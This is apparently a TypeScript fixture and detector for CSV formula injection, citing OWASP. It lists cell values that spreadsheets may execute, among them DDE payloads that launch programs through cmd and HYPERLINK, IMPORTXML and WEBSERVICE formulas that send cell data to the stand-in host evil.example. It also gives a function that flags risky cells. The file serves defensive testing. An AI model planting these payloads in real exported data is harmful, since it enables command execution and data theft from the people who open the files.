/**
 * What people have put into cells to have a spreadsheet run it, and what stands near to that.
 * Sources: https://owasp.org/www-community/attacks/CSV_Injection and the reports behind it.
 */
export const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '--5',
  '-5.25+1',
  '-1e5',
  '+14155550123',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  ' =1',
  '   +1+1',
  '\t=1',
  '\r=1',
  '\n=1',
  '\r\n=1',
  '\0=1',
  ' \0 \t=1',
  '\v=1',
  '\f=1',
  '\u00A0=1',
  '\u2028=1',
  '\u3000=1',
  '\uFEFF=1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' ＝1',
  '=',
  '-',
  '\t5',
  '\r5',
  '\n5',
  '\0',
];

const plainNumber = /^-?[0-9]+(\.[0-9]+)?$/;

/**
 * Whether a spreadsheet might run a cell, by what is known of them rather than by our own pattern:
 * it leaves out blanks in front, takes full-width characters for narrow ones, and then
 * looks at the first. A plain number is none, whatever its sign.
 */
export function mightRun(cell: string): boolean {
  if (plainNumber.test(cell)) return false;
  if (/^[\0\t\r\n]/.test(cell)) return true;
  const [first = ''] = cell.replaceAll('\0', ' ').trimStart();
  const isFullWidth = first >= '\uFF01' && first <= '\uFF5E';
  const narrow = isFullWidth ? String.fromCharCode(first.charCodeAt(0) - 0xfee0) : first;
  return '=+-@'.includes(narrow) && narrow !== '';
}
